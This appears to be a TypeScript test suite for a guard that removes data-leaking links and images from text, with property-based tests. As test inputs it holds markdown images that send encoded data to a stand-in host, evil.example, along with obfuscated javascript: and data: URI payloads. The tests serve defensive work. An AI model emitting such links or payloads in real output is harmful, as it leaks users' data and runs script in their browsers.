import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createExfiltrationGuard } from './exfiltration-guard.js';

const guard = createExfiltrationGuard({ allowHosts: ['docs.example.com', '*.cdn.example.com'] });
const run = (text: string) => {
  const r = guard.guard(text);
  if (!r.ok) throw new Error(r.error.code);
  return r.value;
};

describe('createExfiltrationGuard', () => {
  it('neutralises a markdown image that sends data out, keeping its alt text', () => {
    const r = run('Done! ![loading](https://evil.example/p.png?d=c2VjcmV0) bye');
    expect(r.text).toBe('Done! [image: loading] bye');
    expect(r.removed).toEqual([
      {
        kind: 'markdown-image',
        reason: 'HOST_NOT_ALLOWED',
        url: 'https://evil.example/p.png?d=c2VjcmV0',
      },
    ]);
  });

  it('keeps allowed links and images, refuses data in the query, fragment or path of allowed hosts', () => {
    expect(run('[docs](https://docs.example.com/guide/setup)').removed).toEqual([]);
    expect(run('![x](https://img.cdn.example.com/a.png)').removed).toEqual([]);
    const reasons = (t: string) => run(t).removed.map((x) => x.reason);
    expect(reasons('[a](https://docs.example.com/a?q=secret)')).toEqual(['DATA_IN_QUERY']);
    expect(reasons('[a](https://docs.example.com/a#secret)')).toEqual(['DATA_IN_FRAGMENT']);
    expect(reasons(`[a](https://docs.example.com/${'A'.repeat(65)})`)).toEqual(['DATA_IN_PATH']);
    expect(reasons('[a](https://user:pw@docs.example.com/)')).toEqual(['DATA_IN_CREDENTIALS']);
    expect(reasons('[a](https://cdn.example.com/)')).toEqual(['HOST_NOT_ALLOWED']); // *. is subdomains only
    expect(reasons('[a](https://docs.example.com.evil.io/)')).toEqual(['HOST_NOT_ALLOWED']);
    expect(run('[top](#intro) and [page](/help)').removed).toEqual([]); // relative: own site
  });

  it('removes javascript: and data: links in any spelling', () => {
    for (const t of [
      '[x](javascript:alert(1))',
      '[x](JaVaScRiPt:alert`1`)',
      '[x](&#106;avascript:alert(1))',
      '[x](java&#x09;script:alert(1))',
      '[x](data:text/html;base64,PHNjcmlwdD4=)',
      '<a href="javascript&colon;alert(1)">x</a>',
      '<a href="  jav&#x0A;ascript:alert(1)">x</a>',
      '<img src="data:image/png;base64,AAAA">',
      '[x](vbscript:msgbox)',
    ]) {
      const r = run(t);
      expect(
        r.removed.map((x) => x.reason),
        t,
      ).toEqual(['SCHEME_NOT_ALLOWED']);
      expect(r.text.toLowerCase(), t).not.toMatch(/script:|data:/);
    }
  });

  it('handles reference-style links, HTML tags, autolinks and bare URLs', () => {
    const r = run(
      [
        'See [the report][r1] and ![chart][c].',
        '',
        '[r1]: https://evil.example/r?leak=1 "Report"',
        '[c]: <https://img.cdn.example.com/chart.png>',
        '<img src="https://evil.example/x.gif?u=alice" alt="x"> <a href=\'//evil.example/\'>here</a>',
        '<https://evil.example/auto> and www.evil.example/path, plus https://evil.example/q?s=1.',
        '<video poster="https://evil.example/p.jpg"></video>',
        '<img srcset="https://img.cdn.example.com/a.png 1x, https://evil.example/b.png 2x">',
      ].join('\n'),
    );
    expect(r.removed.map((x) => [x.kind, x.reason])).toEqual([
      ['reference-definition', 'HOST_NOT_ALLOWED'],
      ['autolink', 'HOST_NOT_ALLOWED'],
      ['html-tag', 'HOST_NOT_ALLOWED'],
      ['html-tag', 'HOST_NOT_ALLOWED'],
      ['html-tag', 'HOST_NOT_ALLOWED'],
      ['html-tag', 'HOST_NOT_ALLOWED'],
      ['bare-url', 'HOST_NOT_ALLOWED'],
      ['bare-url', 'HOST_NOT_ALLOWED'],
    ]);
    expect(r.text).toContain('[c]: <https://img.cdn.example.com/chart.png>');
    expect(r.text).toContain('[link removed] and [link removed], plus [link removed].');
    expect(r.text).not.toContain('evil.example');
  });

  it('catches a link whose text has nested brackets', () => {
    const r = run('[a [b] c](https://evil.example/?d=1)');
    expect(r.text).not.toContain('evil');
    expect(r.removed).toEqual([
      { kind: 'markdown-link', reason: 'HOST_NOT_ALLOWED', url: 'https://evil.example/?d=1' },
    ]);
  });

  it('refuses everything absolute by default, and bad options at construction', () => {
    const strict = createExfiltrationGuard();
    expect(
      strict.guard('![x](https://docs.example.com/a.png)').ok &&
        strict.guard('![x](https://docs.example.com/a.png)'),
    ).toMatchObject({
      value: { text: '[image: x]' },
    });
    expect(createExfiltrationGuard({ allowRelative: false }).guard('[a](/x)')).toMatchObject({
      value: { text: 'a' },
    });
    expect(() => createExfiltrationGuard({ allowSchemes: ['javascript'] })).toThrow(
      /cannot be allowed/,
    );
    expect(() => createExfiltrationGuard({ allowHosts: ['a b'] })).toThrow(/host name/);
    expect(guard.guard(5 as unknown as string)).toMatchObject({
      ok: false,
      error: { code: 'EXFIL_INPUT_INVALID' },
    });
    expect(createExfiltrationGuard({ maxLength: 10 }).guard('x'.repeat(11))).toMatchObject({
      ok: false,
      error: { code: 'EXFIL_INPUT_TOO_LARGE' },
    });
  });

  it('stays linear on text built to make a scanner rescan (many separators, no www.)', () => {
    const text = `${' ://'.repeat(250_000)} https://evil.example/x`;
    const start = performance.now();
    const r = run(text);
    expect(r.removed).toHaveLength(1);
    // Measured: about 40 ms linear, 2.6 s with a search from each separator to the end.
    expect(performance.now() - start).toBeLessThan(1_000);
  });

  it('leaves no URL outside the allow-list in the output, whatever the mix (property)', () => {
    const allowedUrl = fc.constantFrom(
      'https://docs.example.com/a',
      'https://x.cdn.example.com/i.png',
      '/relative',
      '#frag',
    );
    const badUrl = fc.oneof(
      fc.constantFrom(
        'https://evil.example/x',
        'http://docs.example.com/a',
        'https://docs.example.com/a?d=1',
        'https://docs.example.com/a#d',
        '//evil.example/p',
        'javascript:alert(1)',
        'data:text/html,x',
        'https://EVIL.example/x',
        'ftp://evil.example/',
        'https://cdn.example.com/',
        'HTTPS://evil.example',
      ),
      fc.stringMatching(/^[a-z0-9]{1,8}$/).map((s) => `https://${s}.evil.example/${s}?q=${s}`),
    );
    const url = fc.oneof(allowedUrl, badUrl);
    const word = fc.constantFrom(
      'hello',
      'the',
      'report',
      'see',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '!',
      '"',
      "'",
      '\n',
      ' ',
      '*',
    );
    const piece = fc.oneof(
      word,
      url,
      url.map((u) => `![alt](${u})`),
      url.map((u) => `[text](${u})`),
      url.map((u) => `[t [n] t](${u} "title")`),
      url.map((u) => `\n[ref]: ${u}\n`),
      url.map((u) => `<img src="${u}">`),
      url.map((u) => `<a href='${u}'>x</a>`),
      url.map((u) => `<${u}>`),
      url.map((u) => `<img src=${u.replace(':', '&#58;')}>`),
    );
    const isAllowedAbsolute = (u: string) =>
      /^https:\/\/(docs\.example\.com|x\.cdn\.example\.com)\/[a-z.]*$/.test(u);
    let removedSome = 0;
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const text = pieces.join(' ');
        const r = run(text);
        if (r.removed.length > 0) removedSome++;
        // Every absolute URL left is an allowed one, and no dangerous scheme survives.
        // Every absolute URL left (each "://" with its scheme and the run after it) is allowed.
        for (let at = r.text.indexOf('://'); at !== -1; at = r.text.indexOf('://', at + 3)) {
          let s = at;
          while (s > 0 && /[a-zA-Z0-9+.-]/.test(r.text[s - 1]!)) s--;
          let e = at + 3;
          while (e < r.text.length && !/[\s<>"'`()[\]]/.test(r.text[e]!)) e++;
          const u = r.text.slice(s, e);
          expect(isAllowedAbsolute(u), u).toBe(true);
        }
        // A link, image or attribute target never starts with a dangerous scheme or another
        // origin (plain text such as "javascript:alert(1)" outside a link is not a link).
        expect(r.text).not.toMatch(/(\]\(|=["']?)\s*(\/\/|javascript:|data:)|<(javascript|data):/i);
        for (const token of r.text.toLowerCase().split(/\s/)) {
          const at = token.indexOf('://');
          if (at !== -1) expect(token.slice(at), token).not.toContain('evil.example');
          expect(token, token).not.toContain('www.evil');
        }
        // Guarding again finds nothing left to remove.
        expect(run(r.text).removed).toEqual([]);
      }),
      { numRuns: 1000 },
    );
    expect(removedSome).toBeGreaterThan(100);
  });
});
